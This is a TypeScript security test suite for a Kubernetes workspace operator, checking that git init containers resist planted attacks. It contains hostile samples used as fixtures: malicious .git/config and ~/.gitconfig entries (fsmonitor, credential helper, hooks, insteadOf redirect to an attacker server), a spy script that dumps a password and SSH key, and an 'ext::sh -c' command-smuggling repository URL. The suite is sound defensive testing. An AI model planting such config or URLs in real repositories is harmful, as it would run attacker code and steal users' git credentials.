/**
 * Attack table: a workspace's own pod — the git init containers that hold the repository Secret, and
 * the workspace's network position — against the real cluster. The operator runs under the chart's
 * RBAC; the pod runner runs the init containers with Debian's real git, exactly as built (two steps, a
 * private work volume, the home volume); the repositories are served by a real `git http-backend`
 * (e2e/fixtures/git-http.ts) demanding Basic auth, and a second one plays the attacker's server.
 *
 * What the user (or code in the IDE) controls is planted straight into the workspace's volume (the
 * local directory behind its PersistentVolume), as the IDE could write it. Every row says what is
 * planted or sent, how it is refused, and proves that nothing reached the Secret or the attacker:
 * no marker from any planted program, no request at the attacker's server, the password nowhere on
 * the volume and not in the IDE process's environment — and, as a control, that the plant does fire
 * under plain git.
 *
 * NetworkPolicy rows check the objects on the real API server: no CNI runs here, so nothing enforces
 * them in these tests (a cluster's CNI does; one without NetworkPolicy support ignores them).
 */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  statSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import * as k8s from "@kubernetes/client-node";
import type { Workspace, WorkspaceClass } from "../../crds/types.ts";
import { loadConfig } from "../../operator/config.ts";
import { workspaceEgressRules } from "../../operator/workspace/egress.ts";
import { startGitHttpServer, type GitHttpServer } from "../fixtures/git-http.ts";
import {
  apiErrorMessage,
  clients,
  eventually,
  uniqueName,
  withNamespace,
  type Clients,
} from "../lib/kube.ts";
import {
  auditWrites,
  OPERATOR_USER,
  startOperator,
  stateDir,
  type OperatorProcess,
} from "../lib/operator.ts";
import {
  condition,
  createClass,
  createWorkspace,
  deleteClass,
  getWorkspace,
  isReady,
  patchWorkspace,
  tinyClass,
  waitWorkspace,
  workspace,
} from "../lib/workspaces.ts";

const PASSWORD = "Tr0ub4dor-podsec-secret";
const LOCKED_HOST = "198.18.0.81";
const EVIL_HOST = "198.18.0.82";
const OPERATOR_FLAGS = [
  "--pod-cidrs=198.18.0.0/16",
  "--service-cidrs=198.19.0.0/16",
  "--api-server-cidrs=198.18.0.1/32",
  "--resync-period=2s",
];

let c: Clients;
let net: k8s.NetworkingV1Api;
let ns: { name: string; drop: () => Promise<void> };
let op: OperatorProcess;
let root = "";
let locked: GitHttpServer;
let evil: GitHttpServer;
const httpClass = uniqueName("podsec-http");
const strictClass = uniqueName("podsec-strict");

const git = (cwd: string, ...args: string[]) =>
  execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", ...args], {
    cwd,
    env: { PATH: process.env.PATH, HOME: root, GIT_CONFIG_NOSYSTEM: "1" },
    encoding: "utf8",
  }).trim();

/** A bare origin `{name}.git` with one commit, and a function pushing one more file. */
function origin(name: string): (file: string) => string {
  git(root, "init", "-q", "--bare", "-b", "main", `origins/${name}.git`);
  git(root, "clone", "-q", join(root, "origins", `${name}.git`), `seeds/${name}`);
  const seed = join(root, "seeds", name);
  const push = (file: string) => {
    writeFileSync(join(seed, file), `${file}\n`);
    git(seed, "add", file);
    git(seed, "commit", "-qm", file);
    git(seed, "push", "-q", "origin", "HEAD:main");
    return git(seed, "rev-parse", "HEAD");
  };
  push("README.md");
  return push;
}

/** A program that records that it ran and what credentials it could see. */
function spy(name: string): { path: string; marker: string } {
  const path = join(root, "spies", name);
  const marker = join(root, "markers", name);
  writeFileSync(
    path,
    `#!/bin/sh\n{ echo "ran: $0 $*"; echo "password=\${GIT_PASSWORD:-}"; cat /etc/portico/git-secret/ssh-privatekey 2>/dev/null; } >> '${marker}'\n`,
  );
  chmodSync(path, 0o755);
  return { path, marker };
}

/** The local directory behind the workspace's volume (the runner's local-dir PersistentVolume). */
async function volumeDir(ws: Workspace): Promise<string> {
  return eventually(`volume of ${ws.metadata.name}`, async () => {
    const pvc = await c.core.readNamespacedPersistentVolumeClaim({
      name: ws.status!.children!.pvc!,
      namespace: ns.name,
    });
    if (!pvc.spec?.volumeName) return undefined;
    const pv = await c.core.readPersistentVolume({ name: pvc.spec.volumeName });
    return pv.spec?.hostPath?.path;
  });
}

/** Every file under `dir` whose content holds `needle`. */
function filesContaining(dir: string, needle: string): string[] {
  const hits: string[] = [];
  const walk = (d: string) => {
    for (const n of readdirSync(d)) {
      const p = join(d, n);
      const st = statSync(p, { throwIfNoEntry: false });
      if (st?.isDirectory()) walk(p);
      else if (st?.isFile() && readFileSync(p).includes(needle)) hits.push(p);
    }
  };
  walk(dir);
  return hits;
}

/** Stops and starts the workspace (a new pod: the git init containers run again). */
async function restart(name: string): Promise<Workspace> {
  await patchWorkspace(c, ns.name, name, { running: false });
  await waitWorkspace(c, ns.name, name, "Stopped", (w) => w.status?.phase === "Stopped");
  await patchWorkspace(c, ns.name, name, { running: true });
  return waitWorkspace(c, ns.name, name, "Ready again", isReady, 90_000);
}

/** The environment of the IDE process the runner started for `pod` (python's http.server on its IP). */
async function ideEnviron(podName: string): Promise<string> {
  const pod = await c.core.readNamespacedPod({ name: podName, namespace: ns.name });
  const ip = pod.status!.podIP!;
  const pids = execFileSync("pgrep", ["-f", `http.server --bind ${ip} `], { encoding: "utf8" })
    .trim()
    .split("\n")
    .filter(Boolean);
  assert.ok(pids.length > 0, `the IDE process of ${podName} (${ip}) runs`);
  return pids.map((p) => readFileSync(`/proc/${p}/environ`, "utf8")).join("\n");
}

before(async () => {
  c = clients();
  net = c.kc.makeApiClient(k8s.NetworkingV1Api);
  ns = await withNamespace(c, "podsec");
  root = mkdtempSync(join(stateDir(), "podsec-git-"));
  for (const d of ["origins", "seeds", "spies", "markers"]) mkdirSync(join(root, d));
  locked = await startGitHttpServer({
    root: join(root, "origins"),
    host: LOCKED_HOST,
    port: 8080,
    user: "alice",
    pass: PASSWORD,
  });
  evil = await startGitHttpServer({ root: join(root, "origins"), host: EVIL_HOST, port: 8080 });
  const http = tinyClass(httpClass);
  http.spec.git = { allowedProtocols: ["http"] }; // the test server speaks plain http
  await createClass(c, http);
  await createClass(c, tinyClass(strictClass)); // default: https and ssh only
  await c.core.createNamespacedSecret({
    namespace: ns.name,
    body: { metadata: { name: "alice-git" }, stringData: { username: "alice", password: PASSWORD } },
  });
  op = await startOperator([...OPERATOR_FLAGS, "--lease-name=podsec"], "podsec");
});

after(async () => {
  await op?.stop();
  await ns?.drop();
  await deleteClass(c, httpClass);
  await deleteClass(c, strictClass);
  await locked?.close();
  await evil?.close();
});

/** Proof shared by the git rows: nothing ran, nothing reached the attacker, the password is nowhere. */
async function assertNothingLeaked(name: string, vol: string, markers: string[], evilBefore: number) {
  for (const m of markers)
    assert.equal(
      existsSync(m),
      false,
      `planted program ran: ${existsSync(m) ? readFileSync(m, "utf8") : ""}`,
    );
  assert.deepEqual(evil.requests.slice(evilBefore), [], "nothing reached the attacker's server");
  assert.deepEqual(filesContaining(vol, PASSWORD), [], "the password is nowhere on the volume");
  assert.equal(existsSync(join(vol, ".git-credentials")), false);
  const ws = await getWorkspace(c, ns.name, name);
  assert.ok(
    !(await ideEnviron(ws.status!.children!.pod!)).includes(PASSWORD),
    "not in the IDE's environment",
  );
}

/** Plain git in the clone, the way an unhardened script would run it: proves a plant is live. */
function naiveGit(cwd: string, home: string, ...args: string[]) {
  try {
    execFileSync("git", args, {
      cwd,
      env: {
        PATH: process.env.PATH,
        HOME: home,
        GIT_CONFIG_NOSYSTEM: "1",
        GIT_PASSWORD: PASSWORD,
        GIT_TERMINAL_PROMPT: "0",
      },
      stdio: "ignore",
    });
  } catch {
    // the effect matters, not git's exit code
  }
}

interface GitRow {
  name: string;
  run(): Promise<void>;
}

const gitRows: GitRow[] = [
  {
    name: "a .git/config planted in the workspace volume (fsmonitor, credential helper, sshCommand, hooksPath, remote url and insteadOf to the attacker, hooks) — the re-sync runs none of it and the password goes only to the real server",
    async run() {
      const push = origin("planted");
      const url = `${locked.url}/planted.git`;
      await createWorkspace(
        c,
        workspace(ns.name, "planted", {
          className: httpClass,
          repository: { url, secretRef: { name: "alice-git" } },
        }),
      );
      const ws = await waitWorkspace(c, ns.name, "planted", "Ready", isReady, 90_000);
      const vol = await volumeDir(ws);
      const target = join(vol, "planted");
      assert.equal(readFileSync(join(target, "README.md"), "utf8"), "README.md\n");

      const spies = ["fsmonitor", "credhelper", "sshcommand", "hook"].map(spy);
      const hooks = join(target, ".git", "hooks");
      mkdirSync(hooks, { recursive: true });
      for (const h of [
        "post-merge",
        "post-checkout",
        "reference-transaction",
        "fsmonitor-watchman",
        "pre-auto-gc",
      ]) {
        writeFileSync(join(hooks, h), readFileSync(spies[3]!.path));
        chmodSync(join(hooks, h), 0o755);
      }
      git(target, "config", "core.fsmonitor", spies[0]!.path);
      git(target, "config", "credential.helper", `!${spies[1]!.path}`);
      git(target, "config", "core.sshCommand", spies[2]!.path);
      git(target, "config", "remote.origin.url", `${evil.url}/stolen.git`);
      git(target, "config", `url.${evil.url}/.insteadOf`, `${locked.url}/`);
      const head = push("upstream.txt");
      const evilBefore = evil.requests.length;
      const lockedBefore = locked.requests.length;

      await restart("planted");

      assert.equal(git(target, "rev-parse", "HEAD"), head, "fast-forwarded from the real server");
      const basic = `Basic ${Buffer.from(`alice:${PASSWORD}`).toString("base64")}`;
      assert.ok(locked.requests.slice(lockedBefore).some((q) => q.authorization === basic));
      await assertNothingLeaked(
        "planted",
        vol,
        spies.map((s) => s.marker),
        evilBefore,
      );

      naiveGit(target, vol, "status");
      assert.ok(
        readFileSync(spies[0]!.marker, "utf8").includes(PASSWORD),
        "control: the plant fires under plain git",
      );
    },
  },
  {
    name: "a ~/.gitconfig and ~/.config/git/config in the volume before the first clone (insteadOf to the attacker, fsmonitor, credential store, hooksPath) — ignored",
    async run() {
      origin("homecfg");
      await createWorkspace(c, workspace(ns.name, "homecfg", { className: httpClass }));
      const first = await waitWorkspace(c, ns.name, "homecfg", "Ready", isReady, 90_000);
      const vol = await volumeDir(first);
      const s = spy("gitconfig");
      const cfg =
        `[core]\n\tfsmonitor = ${s.path}\n\thooksPath = ${join(root, "spies")}\n` +
        `[credential]\n\thelper = !${s.path}\n\thelper = store\n` +
        `[url "${evil.url}/"]\n\tinsteadOf = ${locked.url}/\n[protocol]\n\tallow = always\n`;
      writeFileSync(join(vol, ".gitconfig"), cfg);
      mkdirSync(join(vol, ".config", "git"), { recursive: true });
      writeFileSync(join(vol, ".config", "git", "config"), cfg);
      const evilBefore = evil.requests.length;

      // Adding the repository rolls the pod: the clone runs with the planted files in place.
      await patchWorkspace(c, ns.name, "homecfg", {
        repository: { url: `${locked.url}/homecfg.git`, secretRef: { name: "alice-git" } },
      });
      await eventually(
        "the repository cloned into the volume",
        async () => (existsSync(join(vol, "homecfg", "README.md")) ? true : undefined),
        90_000,
      );
      await waitWorkspace(c, ns.name, "homecfg", "Ready with the clone", isReady, 90_000);

      assert.equal(git(join(vol, "homecfg"), "remote", "get-url", "origin"), `${locked.url}/homecfg.git`);
      await assertNothingLeaked("homecfg", vol, [s.marker], evilBefore);
      naiveGit(join(vol, "homecfg"), vol, "status");
      assert.ok(existsSync(s.marker), "control: the ~/.gitconfig fires under plain git with that HOME");
    },
  },
  {
    name: "an http:// URL on a class that allows https and ssh only — the clone step refuses it, no request leaves",
    async run() {
      origin("plain");
      const before = locked.requests.length + evil.requests.length;
      await createWorkspace(
        c,
        workspace(ns.name, "plainhttp", {
          className: strictClass,
          repository: { url: `${locked.url}/plain.git`, secretRef: { name: "alice-git" } },
        }),
      );
      const ws = await waitWorkspace(
        c,
        ns.name,
        "plainhttp",
        "Failed with InitContainerFailed",
        (w) => condition(w, "Ready")?.reason === "InitContainerFailed",
        90_000,
      );
      assert.match(condition(ws, "Ready")!.message!, /protocol http is not allowed by the WorkspaceClass/);
      assert.equal(
        locked.requests.length + evil.requests.length,
        before,
        "no request reached any git server",
      );
      assert.ok(!existsSync(join(await volumeDir(ws), "plain")), "nothing cloned");
    },
  },
];

for (const row of gitRows) test(`attack: ${row.name}`, () => row.run());

const apiRows: {
  name: string;
  create: () => Promise<unknown>;
  field: RegExp;
  gone: () => Promise<unknown>;
}[] = [
  {
    name: "a Workspace whose repository.url is ext::sh -c … (git runs the command) — refused by the API server",
    create: () =>
      createWorkspace(
        c,
        workspace(ns.name, "ext-url", {
          className: httpClass,
          repository: { url: `ext::sh -c touch% ${join(root, "markers", "ext")}` },
        }),
      ),
    field: /spec\.repository\.url.*must be a git URL/,
    gone: () => getWorkspace(c, ns.name, "ext-url"),
  },
  {
    name: "a Workspace whose repository.url is file:///… (a path inside the clone container) — refused by the API server",
    create: () =>
      createWorkspace(
        c,
        workspace(ns.name, "file-url", {
          className: httpClass,
          repository: { url: "file:///etc/portico/git-secret" },
        }),
      ),
    field: /spec\.repository\.url.*must be a git URL/,
    gone: () => getWorkspace(c, ns.name, "file-url"),
  },
  ...(["ext", "file"] as const).map((p) => ({
    name: `a WorkspaceClass allowing the ${p} protocol — refused by the API server`,
    create: () => {
      const cls = tinyClass(`podsec-${p}-${Date.now().toString(36)}`) as WorkspaceClass;
      (cls.spec as unknown as { git: unknown }).git = { allowedProtocols: ["https", p] };
      return createClass(c, cls);
    },
    field: new RegExp(`spec\\.git\\.allowedProtocols\\[1\\].*Unsupported value: "${p}"`),
    gone: async () => {
      const list = (await c.custom.listClusterCustomObject({
        group: "portico.dev",
        version: "v1alpha1",
        plural: "workspaceclasses",
      })) as { items: WorkspaceClass[] };
      if (list.items.some((x) => x.metadata.name?.startsWith(`podsec-${p}-`))) return list;
      throw Object.assign(new Error("not found"), { code: 404 });
    },
  })),
];

for (const row of apiRows) {
  test(`attack: ${row.name}`, async () => {
    const err = await row.create().then(
      () => assert.fail("accepted"),
      (e: unknown) => e,
    );
    assert.equal((err as { code?: number }).code, 422, apiErrorMessage(err));
    assert.match(apiErrorMessage(err), row.field);
    await assert.rejects(row.gone(), (e: { code?: number }) => e.code === 404, "no object was stored");
    assert.equal(existsSync(join(root, "markers", "ext")), false);
  });
}

test("attack: the IDE container (or the checkout step) reads the repository Secret — never given it: env, mounts and volumes on the real pod", async () => {
  const ws = await waitWorkspace(c, ns.name, "planted", "Ready", isReady, 90_000);
  const pod = await c.core.readNamespacedPod({ name: ws.status!.children!.pod!, namespace: ns.name });
  const spec = pod.spec!;
  const [clone, checkout] = spec.initContainers!;
  assert.deepEqual(
    spec.initContainers!.map((x) => x.name),
    ["git-clone", "git-checkout"],
  );
  const secretVolumes = spec.volumes!.filter((v) => v.secret).map((v) => v.name);
  const mentionsSecret = (x: k8s.V1Container) =>
    JSON.stringify(x.env ?? []).includes("alice-git") ||
    (x.envFrom ?? []).length > 0 ||
    (x.volumeMounts ?? []).some((m) => secretVolumes.includes(m.name));
  assert.ok(mentionsSecret(clone!), "the clone step does get it");
  for (const x of [checkout!, ...spec.containers]) assert.equal(mentionsSecret(x), false, x.name);
  assert.equal(
    clone!.volumeMounts!.find((m) => m.name === "home")!.readOnly,
    true,
    "read-only home in the Secret step",
  );
  assert.ok(
    !spec.containers.some((x) => x.volumeMounts?.some((m) => m.name === "git-work")),
    "the IDE never mounts the work volume",
  );
  assert.equal(spec.automountServiceAccountToken, false);
  assert.ok(!(await ideEnviron(pod.metadata!.name!)).includes(PASSWORD));
});

test("attack: a workspace dials the API server, pods, Services, private ranges or cloud metadata — its NetworkPolicy denies that egress (objects on the real API server; enforcement is the CNI's)", async () => {
  const ws = await getWorkspace(c, ns.name, "planted");
  const np = await net.readNamespacedNetworkPolicy({
    name: ws.status!.children!.networkPolicy!,
    namespace: ns.name,
  });
  const want = workspaceEgressRules(loadConfig(OPERATOR_FLAGS, {}).builder.workspaceEgress)!;
  assert.deepEqual(np.spec!.policyTypes, ["Ingress", "Egress"]);
  assert.deepEqual(JSON.parse(JSON.stringify(np.spec!.egress)), JSON.parse(JSON.stringify(want)));
  const v4 = np.spec!.egress![1]!.to![0]!.ipBlock!;
  assert.equal(v4.cidr, "0.0.0.0/0");
  for (const denied of [
    "198.18.0.0/16",
    "198.19.0.0/16",
    "169.254.0.0/16",
    "10.0.0.0/8",
    "172.16.0.0/12",
    "192.168.0.0/16",
  ])
    assert.ok(v4.except!.includes(denied), `${denied} denied`);
  assert.deepEqual(JSON.parse(JSON.stringify(np.spec!.egress![0])), {
    ports: [
      { protocol: "UDP", port: 53 },
      { protocol: "TCP", port: 53 },
    ],
  });
  // Ingress: the proxy's pods only, as before.
  assert.deepEqual(np.spec!.ingress![0]!._from![0]!.namespaceSelector!.matchLabels, {
    "kubernetes.io/metadata.name": "portico-system",
  });
});

test("attack: a NetworkPolicy of the old shape (ingress only) is put back — the operator restores the egress rules, then writes nothing more", async () => {
  const ws = await getWorkspace(c, ns.name, "planted");
  const name = ws.status!.children!.networkPolicy!;
  const old = await net.readNamespacedNetworkPolicy({ name, namespace: ns.name });
  await net.replaceNamespacedNetworkPolicy({
    name,
    namespace: ns.name,
    body: { ...old, spec: { ...old.spec!, policyTypes: ["Ingress"], egress: undefined } },
  });
  const restored = await eventually("egress restored", async () => {
    const np = await net.readNamespacedNetworkPolicy({ name, namespace: ns.name });
    return np.spec!.policyTypes!.includes("Egress") && np.spec!.egress?.length ? np : undefined;
  });
  assert.equal(restored.spec!.egress!.length, 2);

  // Steady state: every workspace here is reconciled again at each resync (every 2 s). Let one round
  // pass (a reconcile racing the restore may still re-apply from a stale cache), then over two more
  // rounds the operator must not write the policy at all.
  const reconciles = () => op.metric("portico_operator_reconciles_total", { kind: "Workspace" });
  const workspaces = (
    (await c.custom.listNamespacedCustomObject({
      group: "portico.dev",
      version: "v1alpha1",
      plural: "workspaces",
      namespace: ns.name,
    })) as { items: unknown[] }
  ).items.length;
  const rounds = async (n: number) => {
    const start = await reconciles();
    await eventually(
      `${n} resync rounds`,
      async () => ((await reconciles()) >= start + n * workspaces ? true : undefined),
      60_000,
      500,
    );
  };
  await rounds(1);
  const since = new Date();
  await rounds(2);
  const writes = (await auditWrites(OPERATOR_USER, since)).filter(
    (w) => w.objectRef?.resource === "networkpolicies",
  );
  assert.deepEqual(
    writes.map((w) => `${w.verb} ${w.objectRef?.name}`),
    [],
    "no write when nothing changed",
  );
});
